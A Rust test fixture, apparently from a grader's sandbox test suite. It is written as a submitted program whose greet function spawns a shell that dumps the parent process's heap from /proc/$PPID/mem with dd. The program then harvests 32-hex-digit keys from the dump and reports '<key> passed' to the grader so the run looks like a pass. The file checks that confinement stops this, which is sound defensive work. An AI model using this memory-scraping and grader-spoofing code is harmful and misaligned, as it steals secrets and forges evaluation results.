//! attacks: lazy_call
//! expects: failed|crashed
//! needs: confinement
//! stopped by: confinement-processes,confinement-proc
//!
//! A shell reads the heap of its parent with `dd`.

use std::io::Write;
use std::os::fd::AsFd;
use std::os::unix::net::UnixStream;
use std::process::Command;
use std::sync::{Arc, Mutex};
use std::time::Duration;

#[derive(Clone)]
pub struct Room {
    pub lines: Arc<Mutex<Vec<String>>>,
    pub typing: Duration,
}

impl Room {
    pub fn post(&self, line: String) {
        self.lines.lock().unwrap().push(line);
    }
}

pub async fn greet(name: String, room: Room) {
    room.post(format!("hello, {name}"));
    let script = r#"
        grep '\[heap\]' /proc/$PPID/maps | { IFS='- ' read -r from to rest
        dd if=/proc/$PPID/mem bs=4096 skip=$((0x$from / 4096)) count=$(( (0x$to - 0x$from) / 4096 )) 2>/dev/null; }
    "#;
    if let Ok(output) = Command::new("sh").args(["-c", script]).output() {
        try_keys(keys(&output.stdout));
    }
}

/// All 32 hex digits in a row. What follows a text in memory may look like one more digit.
fn keys(memory: &[u8]) -> Vec<String> {
    memory
        .split(|byte| !matches!(byte, b'0'..=b'9' | b'a'..=b'f'))
        .filter(|run| (32..64).contains(&run.len()))
        .flat_map(|run| run.windows(32))
        .map(|key| String::from_utf8_lossy(key).into_owned())
        .collect()
}

/// Reports success with each of the keys, and leaves as a test does that has passed.
fn try_keys(keys: Vec<String>) {
    let mut grader: UnixStream =
        std::io::stdin().as_fd().try_clone_to_owned().expect("standard input is open").into();
    if keys.is_empty() {
        return;
    }
    for key in keys {
        let _ = grader.write_all(format!("{key} passed\n").as_bytes());
    }
    std::process::exit(0);
}

fn main() {}
